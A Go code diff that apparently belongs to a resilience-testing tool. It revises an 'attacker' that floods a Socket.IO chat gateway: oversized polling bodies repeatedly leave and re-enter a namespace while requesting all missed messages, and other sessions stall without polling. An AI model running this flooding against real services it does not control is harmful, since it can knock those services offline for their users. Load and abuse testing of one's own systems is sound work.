@@ -155,9 +155,9 @@ func churn(a *attacker) {
 	conn.Close()
 }
 
-// session opens a Socket.IO session by polling and returns its address.
-func (a *attacker) session() (string, error) {
-	address := a.target.URL + "/socket.io/?EIO=4&transport=polling&token=" + a.target.Token
+// session opens a Socket.IO session by polling and returns its address. Without a token it is nobody's.
+func (a *attacker) session(token string) (string, error) {
+	address := a.target.URL + "/socket.io/?EIO=4&transport=polling&token=" + token
 	req, err := http.NewRequestWithContext(a.ctx, http.MethodGet, address, nil)
 	if err != nil {
 		return "", err
@@ -198,21 +198,21 @@ func (a *attacker) post(session, packets string) bool {
 // enter is the packet that enters the gateway's namespace and asks for all that was missed.
 const enter = `40/chat,{"since":1}`
 
-// enterAndLeave sends one body with thousands of packets, of which every other enters the namespace and asks
-// for all that was missed, and every other leaves it.
+// enterAndLeave enters the namespace, and sends one body with thousands of packets, of which every other leaves it,
+// and every other enters it and asks for all that was missed.
 func enterAndLeave(a *attacker) {
-	session, err := a.session()
+	session, err := a.session(a.target.Token)
 	if err != nil {
 		a.tally.Refused.Add(1)
 		return
 	}
 	const pairs = 3_700 // 100,000 bytes, which is less than a server allows by default
-	a.count(a.post(session, strings.Repeat(enter+"\x1e41/chat,\x1e", pairs)+"6"))
+	a.count(a.post(session, enter) && a.post(session, strings.Repeat("41/chat,\x1e"+enter+"\x1e", pairs)+"6"))
 }
 
 // stalledPoll opens a session, enters the namespace, asks for what was missed, and never polls.
 func stalledPoll(a *attacker) {
-	session, err := a.session()
+	session, err := a.session(a.target.Token)
 	if err != nil {
 		a.tally.Refused.Add(1)
 		return
